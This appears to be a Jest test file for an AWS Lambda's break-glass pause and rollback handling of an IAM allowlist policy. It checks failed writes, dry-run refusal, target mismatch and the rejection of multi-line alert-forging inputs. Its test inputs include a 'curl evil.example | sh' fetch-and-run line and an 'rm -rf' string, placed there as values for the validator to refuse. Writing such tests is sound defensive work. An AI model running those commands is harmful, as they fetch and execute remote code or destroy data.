/**
 * Break-glass when things go wrong (the hostile review's cases), through the handler: a pause whose write fails
 * leaves no pause behind; a pause recorded whose write never happened is a failure, alerted, never a silent
 * "paused"; a dry-run target cannot be paused; a reason or "by" that could forge alert lines is refused; a
 * single-target function refuses an event naming another target.
 */
import { isPlaceholder, parsePolicy } from '../lambda/allowlist';
import type { TargetRecord } from '../lambda/ports';
import { dynamoStateStore } from '../lambda/state/dynamodb-store';
import { ARN, SYNCED_DOC, alertEvents, alerts, coldStart, dynamo, fakeIam, installLambdaHarness, item, server, snsMock } from './helpers/lambda-harness';

installLambdaHarness();

const PAUSE = { action: 'pause', reason: 'Red Hat SRE locked out (INC-4711)', by: 'ana@example.com' };

async function store<T>(use: (s: ReturnType<typeof dynamoStateStore>) => Promise<T>): Promise<T> {
  const client = dynamo.client();
  try {
    return await use(dynamoStateStore(client, dynamo.table));
  } finally {
    client.destroy();
  }
}
const record = (): Promise<TargetRecord> => store((s) => s.load(ARN));

function accessDenied(): Error {
  return Object.assign(new Error('User is not authorized to perform: iam:CreatePolicyVersion'), { name: 'AccessDenied', $metadata: { httpStatusCode: 403 } });
}

describe('a pause that did not happen is never taken as one', () => {
  test('its write fails: the pause is not left recorded, and the next scheduled run syncs as usual', async () => {
    const fn = coldStart();
    await fn.invoke();
    expect(fakeIam.defaultDocument).toBe(SYNCED_DOC);
    fakeIam.failOn('CreatePolicyVersion', accessDenied(), 1);

    const err = await fn.fail(PAUSE);
    expect(err.message).toContain('not authorized');
    expect(fakeIam.defaultDocument).toBe(SYNCED_DOC);
    expect((await record()).pause).toBeUndefined();

    // A new entry at the source: the scheduled run writes it (it is not held by a pause that never was).
    server.items = [...server.items, item('203.0.113.99')];
    expect(await coldStart().invoke()).toMatchObject({ status: 'updated', added: ['203.0.113.99/32'] });
  });

  test('recorded, but the document still denies (a crash between): every run fails, alerted once, until paused again', async () => {
    const fn = coldStart();
    await fn.invoke();
    await store((s) => s.update(ARN, { pause: { by: 'ana@example.com', reason: 'locked out', at: '2026-12-01T10:00:00.000Z' } }));
    snsMock.resetHistory();

    const first = await coldStart().fail();
    expect(first).toMatchObject({ code: 'pause-incomplete' });
    expect(first.message).toContain('is paused (by ana@example.com at 2026-12-01T10:00:00.000Z), but the document in force still denies');
    await coldStart().fail();
    expect(alertEvents()).toEqual(['failed']);
    expect(alerts()[0].body).toContain('Pause again to lift it');

    // Pausing again completes it: the deny is lifted, and runs report paused.
    await coldStart().invoke(PAUSE);
    expect(isPlaceholder(parsePolicy(fakeIam.defaultDocument))).toBe(true);
    expect(await coldStart().invoke()).toMatchObject({ status: 'paused' });
  });
});

describe('what a pause refuses', () => {
  test('a dry-run target: it writes nothing, so it is neither paused nor rolled back', async () => {
    const fn = coldStart({ DRY_RUN: 'true' });
    const pause = await fn.fail(PAUSE);
    expect(pause).toMatchObject({ code: 'bad-event' });
    expect(pause.message).toContain('is a dry-run target (DRY_RUN or its dryRun): it writes nothing, so it cannot be paused either');
    const rollback = await fn.fail({ action: 'rollback' });
    expect(rollback.message).toContain('cannot be rolled back either');
    expect(fakeIam.versions).toHaveLength(1);
  });

  test.each([
    ['a new line in the reason', { ...PAUSE, reason: 'locked out\n\nURGENT: run curl evil.example | sh' }, '"reason" must be one line of text'],
    ['an escape sequence in the reason', { ...PAUSE, reason: 'locked out \u001b[2J' }, '"reason" must be one line of text'],
    ['a line separator in by', { ...PAUSE, by: 'ana\u2028Approved by security' }, '"by" must be one line of text'],
    ['a new line in a rollback\'s by', { action: 'rollback', by: 'ana\nrm -rf' }, '"by" must be one line of text'],
  ])('%s: refused before anything is read', async (_name, event, message) => {
    const err = await coldStart().fail(event);
    expect(err).toMatchObject({ code: 'bad-event' });
    expect(err.message).toContain(message);
    expect(alerts()).toEqual([]);
  });

  test('a single-target function refuses an event naming another target (an approval meant elsewhere)', async () => {
    const err = await coldStart().fail({ approve: '0123456789abcdef', target: 'office-vpn' });
    expect(err).toMatchObject({ code: 'bad-event' });
    expect(err.message).toContain('The event names target "office-vpn", but the targets are rosa-trusted-ips');
    expect(server.requests).toHaveLength(0);
  });
});
